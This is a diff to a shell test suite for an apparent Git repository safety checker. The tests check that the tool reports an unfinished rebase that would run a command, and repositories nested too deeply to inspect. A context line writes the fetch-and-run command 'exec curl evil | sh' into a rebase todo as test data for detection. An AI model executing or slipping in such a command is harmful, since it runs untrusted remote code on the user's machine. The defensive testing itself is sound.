@@ -95,6 +95,12 @@ run -- sh -c 'mkdir -p .git/rebase-merge && printf "pick 1 x\nexec curl evil | s
 check "an unfinished rebase that will run a command is reported" reported 'will run "exec curl evil | sh"'
 rm -rf .git/rebase-merge
 
+# A repository deeper than the walk looks (256 levels): unseen, so the
+# directories it hides in are reported.
+run -- sh -c 'd=deep; for i in $(seq 300); do d=$d/d; done; mkdir -p $d && git init -q $d'
+check "directories too deep to look into are reported" reported "nested too deeply to be checked"
+rm -rf deep
+
 run -- sh -c 'echo change >> a.txt && git add a.txt && git -c user.email=t@e -c user.name=t commit -qm two'
 check "ordinary work reports nothing" bash -c "[[ ! -s $T_ROOT/err ]] || { cat $T_ROOT/err; false; }"
 
